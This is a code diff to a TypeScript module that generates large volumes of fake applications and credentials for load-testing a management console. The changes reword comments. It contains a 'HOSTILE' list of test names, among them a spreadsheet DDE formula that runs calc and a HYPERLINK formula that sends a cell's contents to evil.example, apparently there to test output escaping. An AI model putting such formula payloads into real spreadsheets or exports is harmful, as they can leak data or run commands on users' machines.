@@ -2,7 +2,7 @@ import { type Dice, dice, digits } from './dice'
 import type { Owner, Registered, RegisteredKey, RegisteredPassword } from './registration'
 import type { Fill } from './world'
 
-/** The full size that a console must bear. */
+/** The size of a large tenant, which the console must support. */
 export const FILL_SIZE = { applications: 20_000, credentials: 45_000 } as const
 
 const DAY_MS = 24 * 60 * 60 * 1000
@@ -25,7 +25,7 @@ const WORK = [
   'Fleet',
 ]
 const THING = ['mailer', 'export', 'connector', 'sync', 'bot', 'report', 'gateway', 'importer']
-/** Names as nobody should give them, and somebody does. */
+/** Hostile and unusual names. */
 const HOSTILE = [
   "=cmd|' /C calc'!A0",
   '=HYPERLINK("https://evil.example/?"&A1,"Click")',
@@ -42,20 +42,20 @@ const HOSTILE = [
   '{{ 7*7 }} #{7*7} %s %00',
 ]
 
-const of = ({ seed }: Fill, ...words: (string | number)[]): Dice => dice(seed, ...words)
+const of = ({ seed }: Fill, ...seeds: (string | number)[]): Dice => dice(seed, ...seeds)
 const pick = <T>(list: readonly T[], number: number): T => list[number % list.length] as T
 const days = (at: Date, count: number): Date => new Date(at.getTime() + count * DAY_MS)
 
 const maskOf = (fill: Fill, kind: string): number => of(fill, 'mask', kind)(2 ** 32)
 
-/** Random to look at, but its last eight digits say which application it is: so it is found without an index. */
+/** Looks random, but its last eight digits encode the index, so that an application is found without a list. */
 function idOf(fill: Fill, kind: string, index: number): string {
   const hex = digits(of(fill, kind, index), 22)
   const last = ((index ^ maskOf(fill, kind)) >>> 0).toString(16).padStart(8, '0')
   return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(12, 15)}-a${hex.slice(15, 18)}-${hex.slice(18)}${last}`
 }
 
-/** The made-up application with this `appId` or object `id`. */
+/** The generated application with this `appId` or object `id`. */
 export function filledApplication(fill: Fill, kind: 'appId' | 'id', value: string): Registered | undefined {
   const index = (Number.parseInt(value.slice(-8), 16) ^ maskOf(fill, kind)) >>> 0
   return index < fill.applications && idOf(fill, kind, index) === value.toLowerCase()
@@ -63,7 +63,7 @@ export function filledApplication(fill: Fill, kind: 'appId' | 'id', value: strin
     : undefined
 }
 
-/** Two neighbours share what falls to them, one die says how: so the sum is exact and nothing need be counted. */
+/** Two neighbours share a fixed number of credentials, so that the total is exact without counting. */
 function credentialCount(fill: Fill, index: number): number {
   const pairs = Math.ceil(fill.applications / 2)
   const pair = Math.floor(index / 2)
@@ -73,7 +73,7 @@ function credentialCount(fill: Fill, index: number): number {
   return index % 2 === 0 ? first : share - first
 }
 
-/** Of a hundred: 27 have ended, 13 end within 30 days, 10 within 60, 2 almost never, the others in up to two years. */
+/** Of a hundred, 27 have expired, 13 expire within 30 days, 10 within 60, 2 almost never, and the rest within two years. */
 function lifeOf({ at }: Fill, throws: Dice): { startsAt: Date; expiresAt: Date } {
   const state = throws(100)
   const part = throws(10_000) / 10_000
@@ -88,7 +88,7 @@ function nameOf(throws: Dice, index: number): string {
   return `${pick(WORK, throws(WORK.length))} ${pick(THING, throws(THING.length))} ${index + 1}`
 }
 
-/** Each of an application's owners is another one. */
+/** The owners of one application are all different. */
 function ownerOf(fill: Fill, throws: Dice, at: number): Owner {
   const number = (throws(USERS / MOST_OWNERS) + (at * USERS) / MOST_OWNERS) % USERS
   const displayName = number % 25 === 0 ? pick(HOSTILE, number / 25) : `Team ${number + 1}`
@@ -104,7 +104,7 @@ function ownerOf(fill: Fill, throws: Dice, at: number): Owner {
   return { kind: 'user', id: idOf(fill, 'user', number), displayName, userPrincipalName }
 }
 
-/** The `index`th made-up application, the same each time it is asked for. */
+/** The generated application number `index`, always the same. */
 export function filledAt(fill: Fill, index: number): Registered {
   const throws = of(fill, 'application', index)
   const passwords: RegisteredPassword[] = []
@@ -127,7 +127,7 @@ export function filledAt(fill: Fill, index: number): Registered {
   }
 }
 
-/** What a fill holds, counted one application at a time. */
+/** Counts the credentials of a fill by going through its applications. */
 export function fillSummary(fill: Fill): Record<string, number | string> {
   const counts = {
     secrets: 0,
